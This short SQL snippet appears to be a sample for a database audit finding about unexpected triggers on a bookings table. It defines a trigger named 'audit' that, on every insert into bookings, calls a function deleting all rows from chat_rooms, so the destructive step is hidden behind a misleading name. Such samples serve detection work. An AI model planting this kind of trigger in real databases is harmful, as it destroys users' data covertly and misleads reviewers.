-- object: bookings.audit
-- finding: bookings-no-other-triggers: public.bookings.audit
CREATE FUNCTION wipe() RETURNS integer LANGUAGE plpgsql AS 'BEGIN DELETE FROM chat_rooms; RETURN 1; END';
CREATE FUNCTION audit() RETURNS trigger LANGUAGE plpgsql AS 'DECLARE n integer; BEGIN n := wipe(); RETURN NEW; END';
CREATE TRIGGER audit AFTER INSERT ON bookings FOR EACH ROW EXECUTE FUNCTION audit();
